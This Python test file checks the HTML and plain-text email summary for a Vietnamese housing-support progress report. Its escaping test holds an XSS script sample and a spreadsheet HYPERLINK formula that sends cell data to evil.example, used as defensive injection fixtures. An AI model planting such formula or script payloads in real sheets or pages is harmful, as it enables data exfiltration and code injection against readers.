from __future__ import annotations

import unicodedata
from html import unescape
from html.parser import HTMLParser

import pytest

from housing_report.core.statuses import STATUS_LABELS
from housing_report.core.summary import FindingEntry, Houses
from housing_report.render.email import render_email
from tests.support.summary_fixture import (
    FORMULA,
    NFD_TEXT,
    SCRIPT,
    make_first_summary,
    make_summary,
    summary_dict,
    typed,
)

SUBJECT = "Báo cáo tổng hợp tiến độ xóa nhà tạm, nhà dột nát - kỳ 12/03/2025"


@pytest.fixture(scope="module")
def rendered(config):
    return render_email(make_summary(), config)


class _Tables(HTMLParser):
    """The HTML's tables as rows of cell texts, and all text outside tags."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tables: list[list[list[str]]] = []
        self.tags: list[str] = []
        self._stack: list[list[list[str]]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "table":
            self._stack.append([])
        elif tag == "tr" and self._stack:
            self._stack[-1].append([])
        elif tag in ("td", "th") and self._stack:
            self._cell = []
        elif tag == "br" and self._cell is not None:
            self._cell.append(" | ")

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None and self._stack:
            self._stack[-1][-1].append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag == "table" and self._stack:
            self.tables.append(self._stack.pop())

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def tables_of(html: str) -> _Tables:
    parser = _Tables()
    parser.feed(html)
    return parser


def table_after(html: str, heading: str) -> list[list[str]]:
    """The first table after the heading text."""
    return tables_of(html[html.index(heading) :]).tables[0]


def test_subject_is_exactly_the_agreed_one(rendered):
    assert rendered.subject == SUBJECT


def test_subject_follows_the_period_label(config):
    summary = make_summary()
    summary.period_label = "27/03/2025"
    assert render_email(summary, config).subject.endswith("- kỳ 27/03/2025")


@pytest.mark.parametrize("part", ["html", "text"])
def test_key_figures_come_first(rendered, part):
    body = getattr(rendered, part)
    key = "1.574 / 4.518 căn" if part == "html" else "1.574/4.518 căn"
    assert key in body
    assert "34,8%" in body
    assert "+122" in body  # completed since 27/02/2025
    assert "+2,7" in body  # percentage points
    first_section = body.index("Tiến độ theo địa bàn" if part == "html" else "TIẾN ĐỘ THEO ĐỊA BÀN")
    assert body.index(key) < first_section


@pytest.mark.parametrize("part", ["html", "text"])
def test_sections_in_the_agreed_order(rendered, part):
    body = getattr(rendered, part)
    if part == "text":
        body = body.lower()
    marks = [
        "tiến độ theo địa bàn",
        "tiến độ hỗ trợ nhà ở, lũy kế đến ngày báo cáo",
        "nguồn lực, lũy kế",
        "đơn vị tính: triệu đồng",
        "huy động sức dân, lũy kế",
        "công tác tuyên truyền trong kỳ",
        "gương điển hình, cách làm hay",
        "tình hình báo cáo của các đơn vị",
        "báo cáo chưa hợp lệ, đơn vị đang điều chỉnh",
    ]
    lowered = body.lower()
    positions = [lowered.index(m) for m in marks]
    assert positions == sorted(positions)


def test_district_table_is_compact_and_adds_up(rendered):
    rows = table_after(rendered.html, "Tiến độ theo địa bàn")
    assert rows[0] == ["Địa bàn", "Hoàn thành / cần hỗ trợ (căn)", "Tỷ lệ", "So với kỳ trước"]
    assert all(len(r) == 4 for r in rows)
    by_name = {r[0].split(" | ")[0]: r for r in rows[1:]}
    assert by_name["Thành phố Sóc Trăng"][1:] == ["248 / 575", "43,1%", "+52"]
    assert by_name["Huyện Kế Sách"][0] == "Huyện Kế Sách | Bị trả lại (có lỗi); số liệu kỳ 27/02/2025"
    assert by_name["Huyện Cù Lao Dung"][1:] == ["–", "–", "–"]
    assert by_name["Tổng cộng"][1:] == ["1.574 / 4.518", "34,8%", "+122"]


def test_table_a_has_every_group_and_the_totals(rendered, config):
    rows = table_after(rendered.html, "Tiến độ hỗ trợ nhà ở")
    section = config.template.section("A")
    assert rows[0] == ["Nội dung"] + [c.label for c in section.columns]
    assert [r[0] for r in rows[1:]] == [r.label for r in section.rows] + ["Tổng cộng"]
    assert rows[-1][1:] == ["2.997", "1.521", "1.658", "905", "971", "603"]


def test_table_b_is_in_million_dong_with_totals(rendered, config):
    html = rendered.html
    b = html.index("Nguồn lực, lũy kế")
    assert "Đơn vị tính: triệu đồng" in html[b : b + 600]
    rows = table_after(html, "Nguồn lực, lũy kế")
    assert [r[0] for r in rows[1:]] == [r.label for r in config.template.section("B").rows] + ["Tổng cộng"]
    assert rows[-1][1:] == ["83.988,125", "64.398,425"]
    assert "Đơn vị tính: triệu đồng" in rendered.text


def test_mobilisation_shows_change_and_propaganda_the_period(rendered):
    mobilisation = table_after(rendered.html, "Huy động sức dân")
    assert ["Số ngày công lao động hỗ trợ", "31.380", "+1.460"] in mobilisation
    propaganda = table_after(rendered.html, "Công tác tuyên truyền trong kỳ")
    assert ["Lượt người dự hội nghị, sinh hoạt", "4.030"] in propaganda
    assert "- Số ngày công lao động hỗ trợ: 31.380 (+1.460 so với kỳ trước)" in rendered.text


def test_every_unit_has_its_status(rendered):
    summary = make_summary()
    rows = table_after(rendered.html, "Tình hình báo cáo của các đơn vị")
    assert len(rows) == 1 + len(summary.units)
    for unit, row in zip(summary.units, rows[1:], strict=True):
        assert row[0].startswith(unit.name)
        assert row[1].startswith(STATUS_LABELS[unit.status])
        assert f"- {unit.name} (" in rendered.text
    by_name = {r[0].split(" | ")[0]: r[1] for r in rows[1:]}
    assert "Dùng số liệu kỳ 27/02/2025" in by_name["Huyện Kế Sách"]
    assert "Dùng số liệu kỳ 12/02/2025" in by_name["Huyện Long Phú"]
    assert "Không có quyền đọc bảng tính (403)" in by_name["Huyện Long Phú"]
    assert "dùng số liệu kỳ 27/02/2025" in rendered.text


def test_rejected_units_are_named_without_cells_or_codes(rendered):
    """The officials read which units are fixing their report and how many errors; the cells and
    codes to fix are the units' own business (their feedback email), never the officials'."""
    html, text = rendered.html, rendered.text
    section = text[text.index("BÁO CÁO CHƯA HỢP LỆ, ĐƠN VỊ ĐANG ĐIỀU CHỈNH") :]
    rejected = [u for u in make_summary().units if u.status == "rejected"]
    assert rejected
    for unit in rejected:
        count = len(unit.errors)
        assert f"- {unit.name}: {count} lỗi; đơn vị đã được thông báo chi tiết để điều chỉnh." in section
    for body in (html, text):
        for internal in ("BaoCao!", "PhuNu!", "HT_XM", "KC_SC"):
            assert internal not in body


def test_the_email_an_official_expects(rendered, config):
    """ "Kính gửi" the recipients first, the office's contact line; nothing internal (run id)."""
    names = "; ".join(c.name for c in config.report.to)
    assert rendered.text.startswith(f"Kính gửi: {names}\n")
    assert "Kính gửi: <strong>" in rendered.html
    assert rendered.html.index("Kính gửi") < rendered.html.index("Báo cáo tổng hợp tiến độ", 300)
    assert f"Liên hệ: {config.report.office.contact}" in rendered.text
    for internal in ("Mã lần chạy", "summary.json", "run_id", "manual__", "scheduled__"):
        assert internal not in rendered.text
        assert internal not in rendered.html


def test_long_error_lists_are_counted_not_listed(config):
    summary = make_summary()
    unit = next(u for u in summary.units if u.code == "943")
    unit.errors = [
        FindingEntry(cell=f"BaoCao!D{n}", code="CAN_XM", message=f"Lỗi số {n}") for n in range(10, 22)
    ]
    rendered = render_email(summary, config)
    for body in (rendered.text, rendered.html):
        assert f"{unit.name}</strong>: 12 lỗi" in body or f"- {unit.name}: 12 lỗi" in body
        assert "Lỗi số" not in body


def test_sheet_text_is_escaped_in_html(rendered):
    html = rendered.html
    assert SCRIPT not in html
    assert "<script" not in html.lower()
    assert "&lt;script&gt;alert(&#34;xss&#34;)&lt;/script&gt;" in html
    assert FORMULA not in html  # its quotes and & are escaped
    assert "=HYPERLINK(&#34;http://evil.example/?q=&#34;&amp;A1" in html
    parsed = tables_of(html)
    assert "script" not in parsed.tags


def test_plain_text_keeps_sheet_text_as_written(rendered):
    assert SCRIPT in rendered.text
    assert FORMULA in rendered.text
    assert "&lt;" not in rendered.text


def test_output_is_nfc(rendered):
    for part in (rendered.subject, rendered.html, rendered.text):
        assert unicodedata.is_normalized("NFC", part)
    nfc = unicodedata.normalize("NFC", NFD_TEXT)
    assert nfc in rendered.html
    assert nfc in rendered.text


def test_html_is_made_for_a_phone(rendered):
    html = rendered.html
    assert "max-width:640px" in html
    assert "<style" not in html  # inline CSS only
    assert 'name="viewport"' in html
    assert '<html lang="vi">' in html


def test_place_and_date_line(rendered):
    assert "Sóc Trăng, ngày 12 tháng 3 năm 2025" in rendered.html
    assert "\n\nSóc Trăng, ngày 12 tháng 3 năm 2025\n" in rendered.text


def test_first_period_has_nothing_to_compare(config):
    rendered = render_email(make_first_summary(), config)
    assert "Đây là kỳ báo cáo đầu tiên" in rendered.html
    assert "Đây là kỳ báo cáo đầu tiên" in rendered.text
    assert "So với kỳ trước" not in rendered.html
    assert "so với kỳ trước" not in rendered.text
    rows = table_after(rendered.html, "Tiến độ theo địa bàn")
    assert all(len(r) == 3 for r in rows)


def test_no_houses_yet_shows_a_dash_not_a_crash(config):
    summary = make_first_summary()
    summary.houses = Houses(needed=0, started=0, completed=0)
    summary.completion_percent = None
    rendered = render_email(summary, config)
    assert "0 / 0 căn" in rendered.html
    assert "Đạt –" in rendered.html


def test_labels_come_from_the_config(rendered, config):
    shown = unescape(rendered.html)
    for section in config.template.sections:
        if section.kind == "fields" and not section.figure_keys():
            assert section.label not in shown  # general information: nothing to report
            continue
        assert section.label in shown
        for item in (*section.rows, *section.columns):
            assert item.label in shown
        for key in section.figure_keys() if section.kind == "fields" else ():
            assert f"- {config.template.field_codes[key][1].label}: " in rendered.text
    for kind in config.template.kinds.values():
        assert kind.label in shown


def test_empty_list_says_so(config):
    summary = make_summary()
    summary.lists["E"] = []
    rendered = render_email(summary, config)
    e = rendered.text.index("KHÓ KHĂN, VƯỚNG MẮC")
    assert "Trong kỳ, các đơn vị không nêu nội dung này." in rendered.text[e : e + 120]


def test_change_of_houses_without_previous_houses_comes_from_the_totals_change(config):
    data = summary_dict()
    del data["previous"]["houses"]  # an older summary.json: only totals and their change
    summary = typed(data)
    rendered = render_email(summary, config)
    assert "số nhà hoàn thành +122 căn" in rendered.text


def test_a_correction_says_what_changed_in_the_headline_and_why_before_the_figures(config):
    import msgspec

    from housing_report.aggregate.corrections import compare
    from housing_report.aggregate.forecast import forecast_all

    old = make_summary()
    houses = msgspec.structs.replace(old.houses, completed=old.houses.completed + 7)
    totals = {**old.totals, "A.TONG.HT_XM": old.totals.get("A.TONG.HT_XM", 0) + 7}
    new = msgspec.structs.replace(old, houses=houses, totals=totals)
    correction = compare(old, new, config, old_version=1, new_version=2)
    rendered = render_email(new, config, correction=correction)
    text = rendered.text
    from housing_report.core.formatting import vn_number

    headline = f"Thay đổi chính: số nhà đã hoàn thành, bàn giao {vn_number(old.houses.completed)} -> "
    assert headline in text
    assert (
        text.index("Thay đổi chính") < text.index("Báo cáo này thay thế") < text.index("Các số liệu thay đổi")
    )
    assert "Thay đổi chính" in rendered.html


def test_a_correction_says_first_how_the_provinces_forecast_moved(config):
    """Issue 19: the forecast moving is part of the headline, before the changed figures."""
    import msgspec

    from housing_report.aggregate.corrections import compare
    from housing_report.aggregate.forecast import forecast_all
    from tests.support.summary_fixture import make_first_summary

    old = make_summary()
    first = msgspec.structs.replace(make_first_summary(), period="2025-02-27")
    # A district's corrected figure moves the province's: the pace is measured district by district.
    houses = msgspec.structs.replace(old.houses, completed=old.houses.completed + 300)
    district = msgspec.structs.replace(old.districts[0], completed=old.districts[0].completed + 300)
    new = msgspec.structs.replace(old, houses=houses, districts=[district, *old.districts[1:]])
    unchanged = compare(old, old, config, old_version=1, new_version=2, earlier=[first])
    assert "forecast_new" not in unchanged["headline"]
    correction = compare(old, new, config, old_version=1, new_version=2, earlier=[first])
    finish = forecast_all([first], new, config.report.programme.target_date)["province"].finish
    assert finish is not None
    text = render_email(new, config, correction=correction).text
    moved = f"dự báo hoàn thành toàn tỉnh: chưa đủ số liệu -> dự kiến {finish:%d/%m/%Y}"
    assert moved in text
    assert text.index(moved) < text.index("Các số liệu thay đổi")
